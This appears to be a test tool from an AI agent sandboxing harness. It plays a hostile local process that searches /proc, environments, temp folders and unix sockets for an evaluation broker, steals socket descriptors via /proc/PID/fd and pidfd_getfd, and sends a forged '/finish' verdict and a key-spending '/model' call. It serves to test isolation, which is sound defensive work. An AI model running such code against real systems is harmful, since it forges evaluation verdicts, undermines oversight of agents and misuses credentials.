"""A hostile process hunting an agent item's broker to forge its verdict (a test tool).

Usage: ``python3 -I -S broker_attacker.py SCOPE MARKER [GATE_PORT]`` (or the
source on stdin with ``-``). It runs as another local user (``setpriv``) or
as a sibling step in its own jail, and prints a JSON report on stdout.

SCOPE names the engine run under attack (its ``--run-id``). Processes whose
command line holds it, and their descendants, are "in scope", and so is any
socket whose name holds it or that sits next to a path an in-scope command
line names. Discovery covers everything the attacker can see: every
``/proc/*/cmdline`` and readable ``environ``, ``/proc/net/unix`` (pathname
and abstract sockets), the temp folders, readable files next to in-scope
paths (a config naming a socket), usual socket names in those folders,
``/proc/PID/fd`` of in-scope processes (open, connect through the link,
``pidfd_getfd``). To every in-scope socket it sends, at once, a probe (an
unknown route), a forged ``/finish`` (verdict ``HOLDS forged MARKER``) and a
``/model`` call (spending the key); it then says ``sent`` and reads the
answers (a broker busy with the jail's model call answers after it). A
socket whose probe answer carries ``"ok"`` answered like a broker.
Out-of-scope sockets (other users' and tests' daemons on a shared machine)
are only connected to, never written, so the hunt harms nothing else.

Without GATE_PORT it prints ``sent`` and then the report on stdout. With
GATE_PORT (a sibling step with ``network: open``) it connects to
127.0.0.1:GATE_PORT, waits for ``go MARKER`` (sent while the agent waits on
its model), and sends ``sent`` and the report there.

Standard library only: it runs under a jail's system python3.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import stat
import sys
import time

TEMP_DIRS = ("/tmp", "/var/tmp", "/dev/shm", "/run")
SOCKET_NAMES = ("broker.sock", "agent.sock", "socket", "sock", "s")
PATH_TOKEN = re.compile(r"/[^\s\0'\",;=<>|]+")
MAX_ENTRIES = 60_000


def read(path: str, limit: int = 1 << 16) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def processes() -> dict[int, tuple[int, list[str]]]:
    """pid -> (parent pid, argv) for every process /proc shows."""
    out: dict[int, tuple[int, list[str]]] = {}
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        cmd, st = read(f"/proc/{name}/cmdline"), read(f"/proc/{name}/stat")
        if cmd is None or st is None:
            continue
        try:
            ppid = int(st.rsplit(b")", 1)[1].split()[1])
        except (IndexError, ValueError):
            continue
        out[int(name)] = (ppid, [a.decode(errors="replace") for a in cmd.split(b"\0") if a])
    return out


def in_scope(procs: dict[int, tuple[int, list[str]]], scope: str) -> set[int]:
    pids = {pid for pid, (_pp, argv) in procs.items() if any(scope in a for a in argv)}
    grew = True
    while grew:
        more = {pid for pid, (pp, _argv) in procs.items() if pp in pids} - pids
        grew = bool(more)
        pids |= more
    pids.discard(os.getpid())
    return pids


def is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.stat(path).st_mode)
    except (OSError, ValueError):
        return False


def net_unix() -> list[str]:
    """Names of bound unix sockets in this network namespace ("@..." is abstract)."""
    data = read("/proc/net/unix", 1 << 24) or b""
    names = []
    for line in data.decode(errors="replace").splitlines()[1:]:
        parts = line.split(None, 7)
        if len(parts) == 8:
            names.append(parts[7])
    return names


def walk(top: str, found: list[str], counter: list[int]) -> None:
    stack = [(top, 0)]
    while stack and counter[0] < MAX_ENTRIES:
        d, depth = stack.pop()
        try:
            with os.scandir(d) as it:
                for e in it:
                    counter[0] += 1
                    try:
                        if e.is_dir(follow_symlinks=False):
                            if depth < 6:
                                stack.append((e.path, depth + 1))
                        elif stat.S_ISSOCK(e.stat(follow_symlinks=False).st_mode):
                            found.append(e.path)
                    except OSError:
                        pass
        except OSError:
            pass


def connect(addr: str) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        if addr.startswith("@"):
            s.connect("\0" + addr[1:])
        elif len(addr.encode()) > 100:
            dfd = os.open(os.path.dirname(addr), os.O_PATH)
            try:
                s.connect(f"/proc/self/fd/{dfd}/{os.path.basename(addr)}")
            finally:
                os.close(dfd)
        else:
            s.connect(addr)
    except BaseException:
        s.close()
        raise
    return s


class Conversation:
    """Requests sent at once on one connection (HTTP pipelining), answers read later.

    A broker busy with the jail's model call answers only after it; the
    requests are queued by then, as a real attacker's would be.
    """

    def __init__(self, s: socket.socket, marker: str) -> None:
        self.sock = s
        self.routes = [f"/stockade-probe-{marker}", "/finish", "/model"]
        bodies: list[dict[str, object]] = [
            {},
            {"ok": True, "result": f"HOLDS forged {marker}", "message": "", "turns": 1},
            {"messages": [{"role": "user", "text": f"spend {marker}"}]},
        ]
        out = b""
        for route, payload in zip(self.routes, bodies, strict=True):
            body = json.dumps(payload).encode()
            out += f"POST {route} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
        s.sendall(out)
        self.buf = b""

    def _answer(self) -> dict[str, object] | str:
        while b"\r\n\r\n" not in self.buf:
            chunk = self.sock.recv(65536)
            if not chunk:
                return f"closed after {self.buf[:80]!r}"
            self.buf += chunk
        head, _, self.buf = self.buf.partition(b"\r\n\r\n")
        m = re.search(rb"content-length:\s*(\d+)", head, re.I)
        if not head.startswith(b"HTTP/1.") or m is None:
            return f"not HTTP: {head[:80]!r}"
        n = int(m.group(1))
        while len(self.buf) < n:
            chunk = self.sock.recv(65536)
            if not chunk:
                break
            self.buf += chunk
        raw, self.buf = self.buf[:n], self.buf[n:]
        try:
            value = json.loads(raw)
        except ValueError:
            return f"not JSON: {raw[:80]!r}"
        return value if isinstance(value, dict) else f"not an object: {value!r}"

    def result(self) -> dict[str, object]:
        """The answers: a broker answers the probe with JSON carrying "ok"."""
        out: dict[str, object] = {"broker": False}
        self.sock.settimeout(30)
        try:
            for route in self.routes:
                answer = self._answer()
                out[route if not route.startswith("/stockade-probe") else "probe"] = answer
                if route.startswith("/stockade-probe"):
                    out["broker"] = isinstance(answer, dict) and "ok" in answer
                if isinstance(answer, str):
                    break
        except OSError as e:
            out["error"] = f"{type(e).__name__}: {e}"
        finally:
            self.sock.close()
        return out


def try_fd_theft(pids: set[int], marker: str, talks: list[tuple[dict[str, object], str, Conversation]]) -> list[dict[str, object]]:
    """Reach in-scope processes' sockets through /proc/PID/fd and pidfd_getfd."""
    attempts: list[dict[str, object]] = []
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
    except (ImportError, OSError):
        libc = None
    for pid in sorted(pids):
        entry: dict[str, object] = {"pid": pid}
        try:
            listed = sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
            entry["fds"] = listed
        except OSError as e:
            listed = list(range(64))  # not listable: try the usual range
            entry["fds"] = f"{type(e).__name__}: {e.errno}"
        for fd in listed:
            link = f"/proc/{pid}/fd/{fd}"
            try:
                os.close(os.open(link, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
                entry[f"open{fd}"] = "opened"
            except OSError as e:
                entry[f"open{fd}"] = e.errno
            try:
                s = connect(link)
            except OSError as e:
                entry[f"connect{fd}"] = e.errno
            else:
                entry[f"connect{fd}"] = "connected"
                talks.append((entry, f"connect{fd}", Conversation(s, marker)))
        if libc is not None and hasattr(os, "pidfd_open"):
            try:
                pidfd = os.pidfd_open(pid)
            except OSError as e:
                entry["pidfd_open"] = e.errno
            else:
                got = []
                for fd in listed:
                    new = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
                    if new < 0:
                        got.append(ctypes.get_errno())
                        continue
                    try:
                        s = socket.socket(fileno=new)
                        s.settimeout(3)
                        took: dict[str, object] = {"fd": fd}
                        talks.append((took, "attack", Conversation(s, marker)))
                        got.append(took)
                    except OSError as e:
                        os.close(new)
                        got.append({"fd": fd, "not a socket": e.errno})
                os.close(pidfd)
                entry["pidfd_getfd"] = got
        attempts.append(entry)
    return attempts


def hunt(scope: str, marker: str) -> tuple[dict[str, object], list[tuple[dict[str, object], str, Conversation]]]:
    """Discover, connect, and send the forged requests; answers are read later."""
    started = time.monotonic()
    report: dict[str, object] = {"marker": marker, "uid": os.getuid(), "euid": os.geteuid()}
    procs = processes()
    scoped = in_scope(procs, scope)
    report["processes_seen"] = len(procs)
    report["in_scope"] = {str(pid): procs[pid][1] for pid in sorted(scoped)}
    # Paths named by command lines and environments; folders next to in-scope ones.
    named: dict[str, bool] = {}
    for pid, (_pp, argv) in procs.items():
        for tok in PATH_TOKEN.findall("\0".join(argv)):
            named[tok] = named.get(tok, False) or pid in scoped
        env = read(f"/proc/{pid}/environ")
        if env is not None:
            for tok in PATH_TOKEN.findall(env.decode(errors="replace")):
                named[tok] = named.get(tok, False) or pid in scoped
    mine = [p for p, s in named.items() if s]
    near = {os.path.dirname(p) for p in mine} | {p for p in mine if os.path.isdir(p)}
    near -= {"/", *TEMP_DIRS}  # a shared folder itself is not this run's
    # Readable files named by, or next to, in-scope paths may name more (a
    # config naming its socket); and sockets go by a few usual names.
    files = [p for p in mine if os.path.isfile(p)]
    for d in sorted(near):
        with contextlib.suppress(OSError):
            files += [os.path.join(d, n) for n in sorted(os.listdir(d))[:500]]
        for n in SOCKET_NAMES:
            named[os.path.join(d, n)] = True
    for f in files:
        try:
            small = os.path.isfile(f) and os.path.getsize(f) <= 1 << 16
        except OSError:
            small = False
        data = read(f) if small else None
        for tok in PATH_TOKEN.findall((data or b"").decode(errors="replace")):
            named[tok] = True
    walked: list[str] = []
    counter = [0]
    for top in TEMP_DIRS:
        walk(top, walked, counter)
    report["temp_entries_seen"] = counter[0]
    listed = net_unix()

    def scoped_name(addr: str) -> bool:
        return scope in addr or any(addr.startswith(d + "/") for d in near)

    candidates: dict[str, tuple[str, bool]] = {}
    for p, s in named.items():
        if is_socket(p):
            candidates.setdefault(p, ("command line, environment or a file", s or scoped_name(p)))
    for p in walked:
        candidates.setdefault(p, ("temp folders", scoped_name(p)))
    for p in listed:
        candidates.setdefault(p, ("/proc/net/unix", scoped_name(p)))
    results = []
    talks: list[tuple[dict[str, object], str, Conversation]] = []
    for addr, (origin, scoped_addr) in sorted(candidates.items()):
        res: dict[str, object] = {"addr": addr, "origin": origin, "scope": scoped_addr}
        try:
            s = connect(addr)
        except OSError as e:
            res["connect"] = f"{type(e).__name__}: {e.errno}"
        else:
            res["connect"] = "ok"
            if scoped_addr:
                try:
                    talks.append((res, "attack", Conversation(s, marker)))
                except OSError as e:
                    res["attack"] = f"{type(e).__name__}: {e}"
                    s.close()
            else:
                s.close()  # not this run's: never written to
        results.append(res)
    report["candidates"] = results
    report["fd_attempts"] = try_fd_theft(scoped, marker, talks)
    report["discovery_seconds"] = round(time.monotonic() - started, 2)
    return report, talks


def answers(report: dict[str, object], talks: list[tuple[dict[str, object], str, Conversation]]) -> None:
    """Read what every written-to socket answered (after the agent's model call)."""
    for entry, key, talk in talks:
        result = talk.result()
        if key == "attack":
            entry.update(result)
        else:
            entry[key] = result


def main() -> int:
    scope, marker = sys.argv[1], sys.argv[2]
    if len(sys.argv) > 3:
        gate = socket.create_connection(("127.0.0.1", int(sys.argv[3])), timeout=300)
        line = b""
        while not line.endswith(b"\n"):
            chunk = gate.recv(100)
            if not chunk:
                return 2
            line += chunk
        word, _, marker = line.decode().strip().partition(" ")
        if word != "go":
            return 2
        report, talks = hunt(scope, marker)
        gate.sendall(b"sent\n")
        answers(report, talks)
        gate.sendall(json.dumps(report).encode())
        gate.close()
    else:
        report, talks = hunt(scope, marker)
        print("sent", flush=True)
        answers(report, talks)
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
